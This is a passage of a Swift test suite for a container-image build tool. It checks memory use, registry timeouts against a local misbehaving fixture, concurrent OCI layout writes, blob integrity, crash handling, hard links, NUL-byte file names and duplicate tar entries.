        try #require(r.status == 0, "\(r.err)")
        #expect(peak < Self.manyFilesRSS, "build's peak RSS \(peak) KB")
        let (v, vPeak, _) = try peakRSS([stampBin, "verify", "oci-archive:" + dir + "/o.tar"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        #expect(vPeak < Self.manyFilesRSS, "verify's peak RSS \(vPeak) KB")
        // What it made: scripts renamed (their old names whited out), as many new names as old.
        let files = try jsonOf(r.out)["layer"]?["files"]?.arrayValue?.compactMap(\.stringValue) ?? []
        let whiteouts = files.filter { $0.contains("/assets/.wh.m-") }.count
        let renamed = files.filter { Path.basename($0).hasPrefix("m-") && $0.split(separator: ".").count == 3 }.count
        #expect(whiteouts > 50_000 && whiteouts == renamed, "\(whiteouts) whiteouts, \(renamed) renamed")
        print("100,000 frontend files, peak RSS (KiB): build \(peak), verify \(vPeak)")
    }

    /// One script of 100 MB that names logo.png once, at its end, beside a small app.js.
    static let hugeScript = #"""
        import gzip, sys
        from image_kit import layer, docker_archive, F
        out, size = sys.argv[1], int(sys.argv[2])
        big = b"/* " + b"x" * size + b" */\nvar logo = new Image(); logo.src = 'logo.png';\n"
        html = b'<script src="vendor.js"></script><script src="app.js"></script><img src="logo.png">'
        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"), ("app/server/public/index.html", F, html),
                 ("app/server/public/vendor.js", F, big), ("app/server/public/app.js", F, b"console.log('app')"),
                 ("app/server/public/logo.png", F, b"\x89PNG" + bytes(100))]
        docker_archive(out, [gzip.compress(layer(files), compresslevel=1, mtime=0)], {"config": {"Env": ["PATH=/bin"]}})
        """#

    /// Point 16, one text file of any size: above 32 MiB it is not read whole (kept, copied as it
    /// is) and a search in pieces pins what it names; build, verify and `assets hash` stay flat.
    @Test func aHugeScriptIsCopiedAndWhatItNamesKeepsItsName() throws {
        let dir = try tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let made = try python(Self.hugeScript, [dir + "/base.tar", "\(100 << 20)"])
        try #require(made.status == 0, "\(made.err)")
        let pub = try buildAndVerifyFlat(dir)
        let names = listing(pub)
        #expect(names.contains("vendor.js") && names.contains("logo.png"), "\(names)")
        #expect(names.contains { $0.hasPrefix("app.") && $0 != "app.js" }, "app.js is renamed: \(names)")
        let size = try FileManager.default.attributesOfItem(atPath: pub + "/vendor.js")[.size] as? Int
        #expect(size == (100 << 20) + 54)
        // The same folder hashed locally: flat, and the reasons say why.
        let (h, hPeak, _) = try peakRSS([stampBin, "assets", "hash", pub, "--output", dir + "/hashed", "--explain"])
        #expect(h.status == 0, "\(h.err)")
        #expect(hPeak < Self.flatRSS, "assets hash's peak RSS \(hPeak) KB")
        #expect(h.err.contains("vendor.js: larger than 32 MiB: copied as it is"), "\(h.err)")
        #expect(h.err.contains("logo.png: \"logo.png\" is in vendor.js"), "\(h.err)")
    }

    // MARK: Registries that never finish (#10)

    @Test(arguments: [("endless", "more than 4 MiB"), ("drip", "no complete answer within 5 s")])
    func aRegistryThatNeverFinishesIsCut(_ mode: String, _ cause: String) throws {
        let dir = try tempDir()
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().path + "/Fixtures/hostile_registry.py"
        let server = try Background(["python3", script, mode], log: dir + "/server.log", stdout: dir + "/port")
        var port = 0
        for _ in 0..<100 where port == 0 {
            port =
                Int(
                    (try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(
                        in: .whitespacesAndNewlines) ?? "") ?? 0
            if port == 0 { usleep(100_000) }
        }
        try #require(port > 0)
        let start = Date()
        let r = try run(
            ["timeout", "60", stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"],
            env: ["STAMP_REGISTRY_DEADLINE": "5"])
        #expect(r.status != 124, "still waiting after 60 s")
        oneLine(r, cause)
        #expect(Date().timeIntervalSince(start) < 30, "took \(Date().timeIntervalSince(start)) s")
        withExtendedLifetime(server) {}
    }

    // MARK: Shared OCI layout folders (#15)

    @Test func concurrentBuildsIntoOneLayoutKeepEveryTag() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        let pids = try (1...4).map { i in
            try spawn(
                [stampBin, "build", "--base", base, "--version", "v\(i)", "--output", "oci:\(dir)/layout:t\(i)"],
                env: ["STAMP_CACHE_DIR": testCacheDir], stderr: dir + "/err\(i)")
        }
        for p in pids { #expect(exitStatus(p) == 0) }
        let names = Set(
            (try readJSON(dir + "/layout/index.json"))["manifests"]!.arrayValue!.compactMap {
                Descriptor(json: $0).annotations[AnnotationKey.refName]
            })
        #expect(names == ["t1", "t2", "t3", "t4"], "\(names)")
        #expect(try stamp(["verify", "oci:\(dir)/layout:t3"]).status == 0)
    }

    @Test func untaggedImagesShareALayoutAndADamagedIndexIsNeverReplaced() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        for v in ["v1", "v2"] {
            #expect(try stamp(["build", "--base", base, "--version", v, "--output", "oci:\(dir)/layout"]).status == 0)
        }
        #expect(
            (try readJSON(dir + "/layout/index.json"))["manifests"]?.arrayValue?.count == 2,
            "an untagged build keeps the other untagged image")
        try "{ not json".write(toFile: dir + "/layout/index.json", atomically: false, encoding: .utf8)
        let r = try stamp(["build", "--base", base, "--version", "v3", "--output", "oci:\(dir)/layout"])
        oneLine(r, "stamp will not replace it")
        #expect(try String(contentsOfFile: dir + "/layout/index.json", encoding: .utf8) == "{ not json")
    }

    @Test func aBlobOfTheRightSizeButWrongBytesIsRewritten() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        #expect(try stamp(["build", "--base", base, "--version", "v1", "--output", "oci:\(dir)/layout:a"]).status == 0)
        // Damage every blob in place, keeping its size.
        let blobs = dir + "/layout/blobs/sha256"
        for name in listing(blobs) {
            var b = try bytes(blobs + "/" + name)
            b[b.count / 2] ^= 0xff
            try Data(b).write(to: URL(fileURLWithPath: blobs + "/" + name))
        }
        #expect(try stamp(["verify", "--integrity-only", "oci:\(dir)/layout:a"]).status == 1)
        #expect(try stamp(["build", "--base", base, "--version", "v1", "--output", "oci:\(dir)/layout:a"]).status == 0)
        let v = try stamp(["verify", "oci:\(dir)/layout:a"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
    }

    /// A crash ends the run with one line and exit 70, not a runtime backtrace (a SIGSEGV is
    /// sent to a stamp waiting on a registry that drips).
    @Test func aCrashIsOneLine() throws {
        let dir = try tempDir()
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().path + "/Fixtures/hostile_registry.py"
        let server = try Background(["python3", script, "drip"], log: dir + "/server.log", stdout: dir + "/port")
        var port = 0
        for _ in 0..<100 where port == 0 {
            port =
                Int(
                    (try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(
                        in: .whitespacesAndNewlines) ?? "") ?? 0
            if port == 0 { usleep(100_000) }
        }
        let pid = try spawn(
            [stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"], stderr: dir + "/err")
        usleep(1_500_000)
        kill(pid, SIGSEGV)
        #expect(exitStatus(pid) == 70)
        let err = try String(contentsOfFile: dir + "/err", encoding: .utf8)
        #expect(err == "stamp: internal error (a crash; please report it with the command that caused it)\n", "\(err)")
        withExtendedLifetime(server) {}
    }

    /// A frontend file stored as a hard link (to a file earlier in its layer) is hashed as that
    /// file, not dropped; a NUL in a frontend name is refused, never written truncated.
    static let linkedFrontend = #"""
        import sys
        from image_kit import layer, docker_archive, F, H
        out, kind = sys.argv[1], sys.argv[2]
        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"),
                 ("app/server/public/index.html", F, b'<script src="a.js"></script><script src="b.js"></script>'),
                 ("app/server/public/b.js", F, b"console.log('b')")]
        pax = {}
        if kind == "hardlink":
            files.append(("app/server/public/a.js", H, "app/server/public/b.js"))
        else:
            # Only a pax record can hold the NUL.
            files.append(("app/server/public/ax.js", F, b"nul"))
            pax = {"app/server/public/ax.js": {"path": "app/server/public/a\0x.js"}}
        docker_archive(out, [layer(files, pax=pax)], {"config": {"Env": ["PATH=/bin"]}})
        """#

    @Test func aHardLinkedFrontendFileIsHashedAsItsTarget() throws {
        let dir = try tempDir()
        let made = try python(Self.linkedFrontend, [dir + "/base.tar", "hardlink"])
        try #require(made.status == 0, "\(made.err)")
        let r = try stamp([
            "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output",
            dir + "/o.tar", "--json",
        ])
        #expect(r.status == 0, "\(r.err)")
        let v = try stamp(["verify", dir + "/o.tar"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        // The renamed a.js holds b.js's bytes.
        #expect(try run(["umoci", "--version"]).status == 0)
        let listingOut = try run([
            "sh", "-c",
            "bsdtar -xOf '\(dir)/o.tar' $(bsdtar -xOf '\(dir)/o.tar' manifest.json | jq -r '.[0].Layers[-1]') | "
                + "bsdtar -tf -",
        ]).out
        #expect(listingOut.contains("app/server/public/a."), "\(listingOut)")
    }

    @Test func aNULInAFrontendNameIsRefused() throws {
        let dir = try tempDir()
        let made = try python(Self.linkedFrontend, [dir + "/base.tar", "nul"])
        try #require(made.status == 0, "\(made.err)")
        let r = try stamp([
            "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output",
            dir + "/o.tar",
        ])
        oneLine(r, "holds a NUL byte")
        #expect(listing(dir) == ["base.tar"])
    }

    // MARK: One path twice in a layer (#15)

    /// A layer that writes a frontend file twice: a runtime (tar extraction, overlay) ends with
    /// the last entry's bytes. `order` says which comes first: an empty file then a 100 KB image
    /// (spooled to disk), the image then an empty file, or two scripts (held in memory).
    static let duplicateEntries = #"""
        import sys
        from image_kit import layer, docker_archive, F
        out, order = sys.argv[1], sys.argv[2]
        big = bytes((i * 7919) % 251 for i in range(100 << 10))
        name, first, last = {
            "empty-then-big": ("logo.png", b"", big),
            "big-then-small": ("logo.png", big, b"\x89PNG small"),
            "scripts": ("app.js", b"console.log('first')", b"console.log('last')"),
        }[order]
        html = b'<script src="app.js"></script>' + (b'<img src="logo.png">' if name == "logo.png" else b"")
        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"), ("app/server/public/index.html", F, html),
                 ("app/server/public/" + name, F, first), ("app/server/public/" + name, F, last)]
        if name != "app.js":
            files.append(("app/server/public/app.js", F, b"console.log(1)"))
        docker_archive(out, [layer(files)], {"config": {"Env": ["PATH=/bin"]}})
        open(out + ".last", "wb").write(last)
        """#

    @Test(arguments: ["empty-then-big", "big-then-small", "scripts"])
    func aPathWrittenTwiceIsHashedAsItsLastEntry(_ order: String) throws {
        let dir = try tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let made = try python(Self.duplicateEntries, [dir + "/base.tar", order])
        try #require(made.status == 0, "\(made.err)")
        let r = try stamp([
            "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--format",
            "oci", "--output", "oci:" + dir + "/o:v1",
        ])
        #expect(r.status == 0, "\(r.err)")
        // What a runtime's root file system holds: umoci unpacks the image as a runtime would.
        let u = try run(["umoci", "raw", "unpack", "--rootless", "--image", dir + "/o:v1", dir + "/root"])
        try #require(u.status == 0, "\(u.err)")
        let last = try bytes(dir + "/base.tar.last")
        let ext = order == "scripts" ? "js" : "png"
        let stem = order == "scripts" ? "app" : "logo"
        let publicDir = dir + "/root/app/server/public"
        let hashed = try FileManager.default.contentsOfDirectory(atPath: publicDir).filter {
            $0.hasPrefix(stem + ".") && $0.hasSuffix("." + ext) && $0 != "\(stem).\(ext)"
        }
        try #require(hashed.count == 1, "\(hashed)")
        #expect(try bytes(publicDir + "/" + hashed[0]) == last, "the hashed file holds the last entry's bytes")
        // Its name is the hash of those bytes: what `assets verify` recomputes from the tree.
        let v = try stamp(["assets", "verify", publicDir])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        let html = try String(contentsOfFile: publicDir + "/index.html", encoding: .utf8)
        #expect(html.contains(hashed[0]), "\(html)")
    }
}
